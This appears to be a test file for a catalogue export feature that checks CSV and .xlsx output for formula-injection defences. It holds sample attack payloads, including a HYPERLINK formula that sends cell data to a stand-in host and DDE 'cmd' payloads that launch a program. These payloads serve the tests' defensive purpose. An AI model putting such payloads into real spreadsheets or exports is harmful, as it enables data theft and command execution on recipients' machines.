import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { exportCatalogue } from '../../activities/catalogue-export';
import type { CatalogueRow } from '../../domain/catalogue';
import { readZipDirectory, readZipEntry } from '../../list-files/zip';

// The consolidated catalogue carries text agencies typed: in the CSV no cell may start a formula,
// and in the .xlsx every such text is a string cell (no formula cell), kept word for word.

const HOSTILE = [
  '=HYPERLINK("http://x/?"&A1,"Mở")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '\t=1+1',
  '\uff1d1+1',
];

let dir: string;
beforeAll(() => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'dondoc-catalogue-export-'));
});
afterAll(() => fs.rmSync(dir, { recursive: true, force: true }));

const rows: CatalogueRow[] = HOSTILE.map((text, i) => ({
  procedureCode: i === 0 ? '=1+1' : `1.00000${i}`,
  procedureName: text,
  documentName: text,
  documentKey: text.toLowerCase(),
  kind: 'thanh_phan_ho_so',
  agencyCodes: ['doc-hai'],
}));

test('no CSV cell starts a formula; the text is kept after an apostrophe', async () => {
  const { csv } = await exportCatalogue(
    dir,
    { campaignId: 'c', directive: '751/UBND-TTHC', at: '2024-03-08T09:00:00+07:00' },
    rows,
    new Map([['doc-hai', '=cmd|"/C calc"!A0']]),
  );
  const records: string[][] = parse(fs.readFileSync(csv, 'utf8'), { bom: true });
  const body = records.slice(1);
  expect(body).toHaveLength(HOSTILE.length);
  for (const cell of body.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/);
  expect(body.map((r) => r[3])).toEqual(HOSTILE.map((text) => `'${text}`));
  expect(body[0]![1]).toBe("'=1+1");
  expect(body[0]![5]).toBe('\'=cmd|"/C calc"!A0');
});

test('the .xlsx holds the same text as string cells, with no formula anywhere', async () => {
  const { xlsx } = await exportCatalogue(
    dir,
    { campaignId: 'c', directive: '751/UBND-TTHC', at: '2024-03-08T09:00:00+07:00' },
    rows,
    new Map([['doc-hai', '=cmd|"/C calc"!A0']]),
  );
  const buffer = fs.readFileSync(xlsx);
  for (const entry of readZipDirectory(buffer).filter((e) => /^xl\/worksheets\/.*\.xml$/.test(e.name)))
    expect(readZipEntry(buffer, entry, 10_000_000).toString('utf8')).not.toMatch(/<f[\s>]/);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  HOSTILE.forEach((text, i) => {
    const row = sheet.getRow(4 + i);
    expect([row.getCell(3).type, row.getCell(3).value]).toEqual([ExcelJS.ValueType.String, text]);
    expect([row.getCell(4).type, row.getCell(4).value]).toEqual([ExcelJS.ValueType.String, text]);
    expect(row.getCell(6).value).toBe('=cmd|"/C calc"!A0');
  });
  sheet.eachRow((row) => row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)));
});
